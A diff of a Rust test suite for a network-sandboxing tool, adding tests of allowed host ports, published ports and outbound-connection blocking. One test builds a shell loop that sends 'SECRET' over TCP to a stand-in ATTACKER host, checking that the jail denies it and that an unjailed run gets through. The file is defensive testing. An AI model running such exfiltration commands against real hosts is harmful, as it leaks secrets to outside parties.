@@ -1,6 +1,7 @@
 //! What a jailed command reaches, and what not.
 
 use test_support::bed::{Bed, unique};
+use test_support::command::wait_for;
 use test_support::hosts::{ALLOWED, ATTACKER, DENIED};
 
 use crate::jail::{CALLERS, ROOT, USER};
@@ -18,6 +19,8 @@ pub(crate) const TESTS: &[test_support::harness::Test] = &[
         "the_jails_own_servers_work_and_the_hosts_are_not_there",
         local,
     ),
+    ("ports_of_the_host_are_there_that_were_named", host_ports),
+    ("published_ports_lead_to_the_commands_servers", published),
     ("jails_side_by_side_are_strangers", side_by_side),
     ("observe_lets_pass_and_records", observe),
 ];
@@ -89,50 +92,33 @@ fn within_tls(bed: &Bed) {
 }
 
 fn addresses(bed: &Bed) {
+    // No other test goes there.
+    let targets = [DENIED, ATTACKER]
+        .map(|host| [format!("{}:8080", host.v4), format!("[{}]:8080", host.v6)])
+        .concat();
     for caller in CALLERS {
         let script = format!(
-            "for to in {}:80 {}:9999 '[{}]:80' '[{}]:9999'; do attacker send tcp $to SECRET; done 2>&1",
-            DENIED.v4, ATTACKER.v4, DENIED.v6, ATTACKER.v6
+            "for to in {} {}:80 '[{}]:80'; do attacker send tcp \"$to\" SECRET; done 2>&1",
+            targets.join(" "),
+            DENIED.v4,
+            DENIED.v6
         );
         let before = bed.internet_log().len();
         let jailed = caller.run(bed, &["--allow", "domain=allowed.test"], &script);
-        let arrived = bed.internet_log()[before..].to_owned();
-        let reached = [DENIED, ATTACKER].iter().any(|host| {
-            arrived.contains(&format!("-> {}", host.v4))
-                || arrived.contains(&format!("-> [{}", host.v6))
-        });
-        assert!(!reached, "{}: {arrived} {jailed:?}", caller.name);
-        for port in [80, 9999] {
-            for address in [DENIED, ATTACKER]
-                .map(|host| [host.v4.to_string(), host.v6.to_string()])
-                .concat()
-            {
-                let is = |record: &serde_json::Value| {
-                    record["port"] == port && record["address"] == address.as_str()
-                };
-                let count = jailed.records.iter().filter(|record| is(record));
-                assert!(
-                    count.clone().all(|record| record["verdict"] == "deny"),
-                    "{jailed:?}"
-                );
-            }
-        }
         let denied = jailed
             .records
             .iter()
             .filter(|record| record["verdict"] == "deny");
-        assert_eq!(denied.count(), 4, "{jailed:?}");
-        // The weapon is loaded.
+        assert_eq!(denied.count(), 6, "{}: {jailed:?}", caller.name);
+        assert_eq!(jailed.records.len(), 6, "{}: {jailed:?}", caller.name);
+        // The weapon is loaded: and these are the only ones that arrive.
         caller.run_unjailed(bed, &script);
-        let arrived = bed.internet_log()[before..].to_owned();
-        assert!(
-            arrived.contains(&format!("-> {}:80 ", DENIED.v4)),
-            "{arrived}"
-        );
-        assert!(
-            arrived.contains(&format!("-> [{}]:80 ", DENIED.v6)),
-            "{arrived}"
-        );
+        for target in &targets {
+            let sign = format!("-> {target} connected");
+            let count = || bed.internet_log()[before..].matches(&sign).count();
+            wait_for("the unjailed one's connection", || count() > 0);
+            assert_eq!(count(), 1, "{}: {target}", caller.name);
+        }
     }
 }
 
@@ -222,26 +208,7 @@ fn local(bed: &Bed) {
          for i in $(seq 100); do curl -s -o /dev/null http://127.0.0.1:8000/ && break; sleep 0.05; done; \
          curl -s -o /dev/null -w '%{http_code} ' http://127.0.0.1:8000/; \
          attacker knock 3 127.0.0.1:7777 '[::1]:7777'";
-    let first = bed.first().to_string();
-    let mut outside = std::process::Command::new("nsenter")
-        .args([
-            "--target",
-            &first,
-            "--net",
-            "--",
-            "python3",
-            "-m",
-            "http.server",
-            "7777",
-        ])
-        .stdout(std::process::Stdio::null())
-        .stderr(std::process::Stdio::null())
-        .spawn()
-        .unwrap();
-    test_support::command::wait_for("a server of the host's", || {
-        let knocked = ROOT.run_unjailed(bed, "attacker knock 3 127.0.0.1:7777");
-        knocked.stdout.contains("connected")
-    });
+    let _server = Server::start(bed, "7777");
     for caller in CALLERS {
         let jailed = caller.run(bed, &[], script);
         assert!(
@@ -256,8 +223,71 @@ fn local(bed: &Bed) {
         );
         assert_eq!(jailed.records.len(), 0, "{jailed:?}");
     }
-    outside.kill().unwrap();
-    outside.wait().unwrap();
+}
+
+/// A web server in the bed, outside of any jail, with its directory's listing.
+struct Server(std::process::Child);
+
+impl Server {
+    fn start(bed: &Bed, port: &str) -> Self {
+        let first = bed.first().to_string();
+        let server = std::process::Command::new("nsenter")
+            .args(["--target", &first, "--mount", "--net", "--"])
+            .args(["python3", "-m", "http.server", port, "--bind", "127.0.0.1"])
+            .args(["--directory", "/etc/boundary"])
+            .stdout(std::process::Stdio::null())
+            .stderr(std::process::Stdio::null())
+            .spawn()
+            .unwrap();
+        let knock = format!("attacker knock 3 127.0.0.1:{port}");
+        wait_for("a server of the host's", || {
+            ROOT.run_unjailed(bed, &knock).stdout.contains("connected")
+        });
+        Self(server)
+    }
+}
+
+impl Drop for Server {
+    fn drop(&mut self) {
+        self.0.kill().ok();
+        self.0.wait().ok();
+    }
+}
+
+fn host_ports(bed: &Bed) {
+    let _servers = [Server::start(bed, "7801"), Server::start(bed, "7802")];
+    let script = "curl -s http://127.0.0.1:7801/; attacker knock 3 127.0.0.1:7802";
+    for caller in CALLERS {
+        let jailed = caller.run(bed, &["--allow-host-port", "7801"], script);
+        let said = &jailed.answer.stdout;
+        assert!(said.contains("policies/"), "{}: {jailed:?}", caller.name);
+        assert!(said.contains("ECONNREFUSED"), "{}: {jailed:?}", caller.name);
+    }
+}
+
+fn published(bed: &Bed) {
+    for (number, caller) in CALLERS.into_iter().enumerate() {
+        let (outside, stop) = (7810 + number, format!("/tmp/{}", unique("stop")));
+        let script = format!(
+            "cd /etc/boundary && python3 -m http.server 3000 --bind 127.0.0.1 >/dev/null 2>&1 & \
+             while [ ! -e {stop} ]; do sleep 0.1; done"
+        );
+        let ports = format!("{outside}:3000");
+        std::thread::scope(|scope| {
+            let jail = scope.spawn(|| caller.run(bed, &["--publish", &ports], &script));
+            let ask = format!("curl -s http://127.0.0.1:{outside}/");
+            wait_for("the command's server", || {
+                ROOT.run_unjailed(bed, &ask).stdout.contains("policies/")
+            });
+            // Nobody else has that port.
+            let second = bed.exec(&caller.line(&["--publish", &ports], "echo RAN"));
+            assert_eq!((second.code, second.stdout.as_str()), (1, ""), "{second:?}");
+            assert!(second.stderr.contains("can't publish"), "{second:?}");
+            std::fs::write(bed.inside(&stop), "").unwrap();
+            let jailed = jail.join().unwrap();
+            assert_eq!(jailed.answer.code, 0, "{}: {jailed:?}", caller.name);
+        });
+    }
 }
 
 fn side_by_side(bed: &Bed) {
